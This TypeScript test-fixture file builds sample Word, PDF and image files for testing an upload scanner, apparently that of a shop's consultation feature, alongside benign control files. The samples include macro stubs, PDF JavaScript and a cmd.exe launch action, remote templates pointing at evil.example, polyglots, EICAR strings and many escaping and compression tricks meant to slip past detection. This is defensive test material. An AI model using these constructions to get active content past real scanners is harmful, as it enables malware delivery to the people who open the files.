import { constants, deflateSync } from 'node:zlib';
import { docx, eicar, jpg, pdf, png, zip } from '../shop/consultation-payload';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELATIONSHIPS = 'word/_rels/settings.xml.rels';

export const relationship = (kind: string, target: string, mode = 'TargetMode="External"') =>
  docx({
    [RELATIONSHIPS]: `<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="rId1" Type="${OFFICE}/${kind}" Target="${target}" ${mode}/></Relationships>`,
  });

const relationshipsOf = (xml: string | Buffer) => docx({ [RELATIONSHIPS]: xml });

export const pdfOf = (...objects: string[]) =>
  Buffer.from(
    `%PDF-1.7\n${objects.map((text, index) => `${index + 1} 0 obj\n${text}\nendobj\n`).join('')}%%EOF\n`,
    'latin1',
  );

/** An object stream, deflated, with this in it. */
function objectStream(objects: string, more = ''): string {
  return objectStreamOf(deflateSync(Buffer.from(objects, 'latin1')), more);
}

function objectStreamOf(packed: Buffer, more = ''): string {
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} ${more}>>\nstream\n${packed.toString('latin1')}\nendstream`;
}

const script = '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>';
const packedScript = deflateSync(Buffer.from(`1 0 ${script}`));
/** The first half is deflated; what follows is not. */
const halfPacked = (objects: string) =>
  Buffer.concat([deflateSync(Buffer.from(objects), { finishFlush: constants.Z_FULL_FLUSH }), Buffer.alloc(50, 0xff)]);
const withChecksum = (checksum: number) => {
  const changed = Buffer.from(packedScript);
  changed.writeUInt32BE(checksum, changed.length - 4);
  return changed;
};
const attachment = (names: string) =>
  `<< /Type /Filespec ${names} /AFRelationship /Data /EF << /F 5 0 R /UF 5 0 R >> >>`;
const EMBEDDED = '<< /Type /EmbeddedFile /Subtype /text#2Fxml /Length 1 >>\nstream\n<\nendstream';
const withAttachment = (names: string) => pdfOf(attachment(names), EMBEDDED);
const INVOICE = attachment('/F (factur-x.xml) /UF <FEFF0066006100630074007500720061002E0078006D006C>');
const remote = 'https://evil.example/x.dotm';
const afterIt = (content: Buffer, more: Buffer) => Buffer.concat([content, more]);
const macros = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const utf16 = (text: string) => Buffer.from(text, 'utf16le');

/** The container of old Word documents, with a stream of this name. */
function docWith(stream: string): Buffer {
  const content = Buffer.alloc(8_192);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(content);
  utf16('WordDocument').copy(content, 4_096);
  utf16(stream).copy(content, 4_224);
  return content;
}

/** A PNG whose header declares so many pixels. */
export function pngOf(width: number, height: number): Buffer {
  const content = png();
  content.writeUInt32BE(width, 16);
  content.writeUInt32BE(height, 20);
  return content;
}

type Kind = 'pdf' | 'docx' | 'doc' | 'jpg' | 'png';

/** What runs, opens or loads something when it is opened, by what is wrong with it. */
export const activeFiles: [what: string, kind: Kind, content: Buffer][] = [
  ['macros', 'docx', docx({ 'word/vbaProject.bin': 'Sub AutoOpen()' })],
  ['macros in capital letters', 'docx', docx({ 'word/vbaProject.BIN': 'Sub AutoOpen()' })],
  ['macros elsewhere', 'docx', docx({ 'custom/VBAPROJECT.bin': 'Sub AutoOpen()' })],
  ['macros under another name', 'docx', docx({ 'word/x.bin': afterIt(Buffer.alloc(600), utf16('_VBA_PROJECT')) })],
  ['a type for macros', 'docx', docx({ '[Content_Types].xml': `<Types><Override ContentType="${macros}"/></Types>` })],
  ['a control', 'docx', docx({ 'word/activeX/activeX1.bin': 'x' })],
  ['a packed program', 'docx', docx({ 'word/embeddings/oleObject1.bin': utf16('\x01Ole10Native') })],
  ['a program', 'docx', docx({ 'word/media/image1.png': 'MZ This program cannot be run in DOS mode' })],
  ['a template of a page', 'docx', relationship('attachedTemplate', remote)],
  ['a template of a network', 'docx', relationship('attachedTemplate', '\\\\evil.example\\x.dotm')],
  ['a template of a network, as a file', 'docx', relationship('attachedTemplate', 'file://evil.example/x.dotm')],
  ['an object of a page', 'docx', relationship('oleObject', 'mhtml:https://evil.example/x.html!x-usc:')],
  ['a frame of a page', 'docx', relationship('frame', remote)],
  ['a picture of a network', 'docx', relationship('image', '\\\\evil.example\\x.png')],
  [
    'a template of a page, disguised',
    'docx',
    relationship('attachedTemplate', '&#104;ttps://evil.example', "TargetMode='&#69;xternal'"),
  ],
  [
    'a template of a page, with a prefix',
    'docx',
    relationshipsOf(
      `<p:Relationship Type="${OFFICE}/attachedTemplate" Id=">" Target="${remote}" TargetMode="External"/>`,
    ),
  ],
  [
    'a template of a page, with a prefix that is not ASCII',
    'docx',
    relationshipsOf(`<ñ:Relationship Type="${OFFICE}/attachedTemplate" Target="${remote}" TargetMode="External"/>`),
  ],
  ['a part that Word converts', 'docx', relationship('aFChunk', '/word/chunk.rtf', '')],
  [
    'a type for macros, disguised',
    'docx',
    docx({ '[Content_Types].xml': `<Types><Override ContentType="${macros.replace('E', '&#69;')}"/></Types>` }),
  ],
  ['macros in a folder of Windows', 'docx', docx({ 'word\\vbaProject.bin': 'Sub AutoOpen()' })],
  ['a script', 'pdf', pdfOf(script)],
  ['a script with an escaped name', 'pdf', pdfOf('<< /S /J#61va#53cript /#4a#53 (app.alert(1)) >>')],
  ['a script when it is opened', 'pdf', pdfOf(`<< /Type /Catalog /OpenAction ${script} >>`)],
  ['a short name for a script', 'pdf', pdfOf('<< /S /Rendered /JS 5 0 R >>')],
  ['a program that it starts', 'pdf', pdfOf('<< /S /Launch /F (cmd.exe) >>')],
  ['an attachment without a name', 'pdf', pdfOf('<< /Type /EmbeddedFile >>')],
  [
    'an attachment that is named nowhere but in the list',
    'pdf',
    pdfOf('<< /Names [(a.xml) << /EF << /F 5 0 R >> >>] >>'),
  ],
  ['an attached program', 'pdf', withAttachment('/F (factura.xml) /UF (factura.exe)')],
  ['an attached document', 'pdf', withAttachment('/F (factura.pdf)')],
  ['an attached script with an escaped name', 'pdf', withAttachment('/U#46 (factura.\\152s)')],
  ['an attached program with a name in hexadecimal', 'pdf', withAttachment('/UF <feff 0061 002e 006c 006e 006b>')],
  ['an attachment with a name that ends in a stream', 'pdf', withAttachment('/UF (a.xml:b.exe)')],
  ['an attachment with a name that cannot be read', 'pdf', withAttachment('/F (a.xml) /UF (a(b).xml)')],
  ['an attached program beside an invoice', 'pdf', pdfOf(INVOICE, attachment('/F (a.cmd)'))],
  ['an attached program in packed objects', 'pdf', pdfOf(objectStream(attachment('/UF (a.scr)')))],
  [
    'an attached program in objects that are not packed',
    'pdf',
    pdfOf(`<< /First 4 >>\nstream\n${attachment('/F (a.js)')}\nendstream`),
  ],
  [
    'a script in packed objects behind blanks',
    'pdf',
    pdfOf(objectStream(`1 0 ${script}`).replace('stream\n', 'stream \t\n')),
  ],
  ['a script in packed objects', 'pdf', pdfOf(objectStream(`1 0 ${script}`))],
  [
    'a script in the second of its packed objects',
    'pdf',
    pdfOf(objectStream('1 0 << >>'), objectStream(`1 0 ${script}`)),
  ],
  ['a script behind a comment', 'pdf', pdfOf(objectStream('1 0 << /JS (x) >>', '% 1 0 obj\n'))],
  [
    'objects packed by another method',
    'pdf',
    pdfOf('<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nx\nendstream'),
  ],
  [
    'objects packed twice',
    'pdf',
    pdfOf('<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\nx\nendstream'),
  ],
  [
    'a script in packed objects with a string in their dictionary',
    'pdf',
    pdfOf(objectStreamOf(packedScript, '/X (obj) ')),
  ],
  [
    'a script in packed objects with an object in a string of their dictionary',
    'pdf',
    pdfOf(objectStreamOf(packedScript, '/X (1 0 obj << % )\n')),
  ],
  ['a script in packed objects with a long dictionary', 'pdf', pdfOf(objectStreamOf(packedScript, ' '.repeat(9_000)))],
  ['a script in packed objects with a false checksum', 'pdf', pdfOf(objectStreamOf(withChecksum(1)))],
  ['a script in packed objects without their end', 'pdf', pdfOf(objectStreamOf(packedScript.subarray(0, -6)))],
  ['a script in packed objects before a fault', 'pdf', pdfOf(objectStreamOf(halfPacked(`1 0 ${script}`)))],
  [
    'a script in packed objects before a fault, behind much else',
    'pdf',
    pdfOf(objectStreamOf(halfPacked(`${randomText(60_000)}1 0 ${script}`))),
  ],
  [
    'a script in packed objects behind more than blanks',
    'pdf',
    pdfOf(objectStreamOf(packedScript).replace('stream\n', 'stream % \n')),
  ],
  ['objects packed by two methods', 'pdf', pdfOf(objectStreamOf(packedScript, '/Filter /LZWDecode'))],
  ['objects packed by rows', 'pdf', pdfOf(objectStream('x', '/DecodeParms << /Columns 4 /Predictor 12 >>'))],
  [
    'objects packed by rows, behind a comment',
    'pdf',
    pdfOf(objectStream('x', '/DecodeParms << /Predictor % \n 12 >>')),
  ],
  ['objects packed by rows, by reference', 'pdf', pdfOf(objectStream('x', '/DecodeParms 9 0 R'))],
  ['objects packed by rows, by two references', 'pdf', pdfOf(objectStream('x', '/DecodeParms << /Predictor 1 0 R >>'))],
  ['a script whose name ends as in PDFium', 'pdf', pdfOf('<< /S /JavaScript\x80 /JS\xff(app.alert(1)) >>')],
  ['an attached program with a name by reference', 'pdf', pdfOf(INVOICE, attachment('/UF 9 0 R'), '(a.exe)')],
  ['an attached program with a name far away', 'pdf', pdfOf(INVOICE, attachment(`/F${' '.repeat(101)}(a.exe)`))],
  [
    'an attached program in what is no stream',
    'pdf',
    pdfOf(INVOICE, `<< /X (>> stream\n) >> ${attachment('/F (a.exe)')}\nendstream`),
  ],
  ['a script after what pretends to be a stream', 'pdf', pdfOf(`<< /X (>> stream\n) >>`, script)],
  ['macros', 'doc', docWith('_VBA_PROJECT')],
  ['macros in small letters', 'doc', docWith('_vba_project')],
  ['a packed program', 'doc', docWith('\x01Ole10Native')],
];

/** Files that are two things at once. */
export const doubleFiles: [what: string, kind: Kind, content: Buffer][] = [
  ['an archive behind it', 'pdf', afterIt(pdf(), zip({ 'a.txt': 'a' }))],
  ['an archive and a line behind it', 'pdf', afterIt(pdf(), afterIt(zip({ 'a.txt': 'a' }), Buffer.from('\n%%EOF\n')))],
  ['a document behind it', 'jpg', afterIt(jpg(), docx())],
  ['an archive behind it', 'png', afterIt(png(), zip({ 'a.txt': 'a' }))],
  ['an archive behind it', 'doc', afterIt(docWith('Data'), zip({ 'a.txt': 'a' }))],
  ['a RAR archive behind it', 'png', afterIt(png(), Buffer.from('Rar!\x1a\x07\x00', 'latin1'))],
  ['a PDF in its head', 'jpg', afterIt(jpg(500), pdf())],
  ['a PDF in its head', 'png', afterIt(png(), pdf())],
  ['another archive before it', 'docx', afterIt(zip({ 'a.txt': 'a' }), docx())],
  ['another archive behind it', 'docx', afterIt(docx(), zip({ 'a.txt': 'a' }))],
  ['a large archive behind it', 'pdf', afterIt(pdf(), largeZip())],
  ['two names for an entry', 'docx', withLocal(docx(), 30, 'X'.charCodeAt(0))],
  ['two packings for an entry', 'docx', withLocal(docx(), 8, 0)],
  ['parts in pieces', 'docx', docx({ 'word/_rels/settings.xml.rels/[0].piece': 'x' })],
  ['a comment', 'docx', commented(docx(), 'PK')],
  ['more between its entries than any program writes', 'docx', padded(docx(), 40_000)],
];

export const viruses: [what: string, kind: Kind, content: Buffer][] = [
  ['behind a PDF', 'pdf', afterIt(pdf(), eicar())],
  ['behind a picture', 'jpg', afterIt(jpg(100_000), eicar())],
  ['across two chunks', 'jpg', afterIt(jpg(64 * 1024 - 20), eicar())],
  ['packed in a document', 'docx', docx({ 'word/media/image1.png': eicar() })],
];

/** What programs that people use write, which looks like the above. */
export const honestFiles: [what: string, kind: Kind, content: Buffer][] = [
  ['a link', 'docx', relationship('hyperlink', 'https://www.bde.es/')],
  [
    'a template of its own computer',
    'docx',
    relationship('attachedTemplate', 'file:///C:\\Users\\Eva\\Plantilla.dotx'),
  ],
  ['the picture of a page', 'docx', relationship('image', 'https://www.bde.es/logo.png')],
  ['its own parts', 'docx', relationship('oleObject', 'embeddings/oleObject1.bin', '')],
  [
    'a page to begin with, links and an outline',
    'pdf',
    pdfOf('<< /OpenAction [1 0 R /Fit] /Outlines << /First 2 0 R >> >>', '<< /S /URI /URI (https://www.bde.es/) >>'),
  ],
  ['packed objects', 'pdf', pdfOf(objectStream('1 0 << /Type /Page >>'))],
  [
    'packed objects without rows',
    'pdf',
    pdfOf(objectStream('x', '/DecodeParms [<< /Predictor 1 /Columns 4 >>]'), objectStream('x', '/DecodeParms null')),
  ],
  [
    'a picture behind an outline',
    'pdf',
    pdfOf('<< /First 2 0 R >>', '<< /Filter /DCTDecode /Width 9 >>\nstream\n\xff\xd8\nendstream'),
  ],
  ['an electronic invoice in it', 'pdf', pdfOf('<< /Names << /EmbeddedFiles 4 0 R >> >>', INVOICE, EMBEDDED)],
  ['an electronic invoice in packed objects', 'pdf', pdfOf(objectStream(`1 0 ${INVOICE}`), EMBEDDED)],
  ...[0, 1, 2, 5, 9, 14].map((shift): [string, Kind, Buffer] => [
    `an invoice whose name is unpacked in two pieces (${shift})`,
    'pdf',
    pdfOf(objectStream(`${' '.repeat(16 * 1024 - 40 + shift * 4)}${INVOICE}`), EMBEDDED),
  ]),
  ['a link to another document', 'pdf', pdfOf('<< /S /GoToR /F (informe.docx) >>')],
  [
    'a text about scripts',
    'pdf',
    pdfOf('(JavaScript and Launch and JS)', '<< /JavaScriptless true /Launcher 1 /JSON 2 >>'),
  ],
  ['compressed data that look like a script', 'pdf', pdfOf('<< /Length 5 >>\nstream\n\x00/JS \x01\nendstream')],
  [
    'a table behind a document',
    'doc',
    afterIt(docWith('Data'), Buffer.concat([zip({ 'a.xml': 'a' }), Buffer.alloc(512)])),
  ],
  ['fifty megapixels', 'jpg', jpg(2_000, 8_192, 6_144)],
];

/** Packs to about as much as it is. */
function randomText(length: number): string {
  let state = 1;
  return Array.from({ length }, () => {
    state = (state * 48_271) % 2_147_483_647;
    return String.fromCharCode(97 + (state % 26));
  }).join('');
}

function commented(archive: Buffer, comment: string): Buffer {
  const changed = afterIt(archive, Buffer.from(comment));
  changed.writeUInt16LE(comment.length, archive.length - 2);
  return changed;
}

/** The archive with this byte in the header before its first entry. */
function withLocal(archive: Buffer, offset: number, byte: number): Buffer {
  const changed = Buffer.from(archive);
  changed.writeUInt8(byte, offset);
  return changed;
}

/** An archive whose record has all its figures in a Zip64 record. */
function largeZip(): Buffer {
  const archive = zip({ 'a.txt': 'a' });
  const locator = Buffer.alloc(20);
  locator.write('PK\x06\x07', 'latin1');
  const record = Buffer.from(archive.subarray(-22)).fill(0xff, 8, 20);
  return Buffer.concat([archive.subarray(0, -22), Buffer.alloc(56), locator, record]);
}

/** The archive with so many bytes between its entries and its directory. */
function padded(archive: Buffer, bytes: number): Buffer {
  const at = archive.indexOf('PK\x01\x02', 0, 'latin1');
  const changed = Buffer.concat([archive.subarray(0, at), Buffer.alloc(bytes), archive.subarray(at)]);
  changed.writeUInt32LE(at + bytes, changed.length - 6);
  return changed;
}
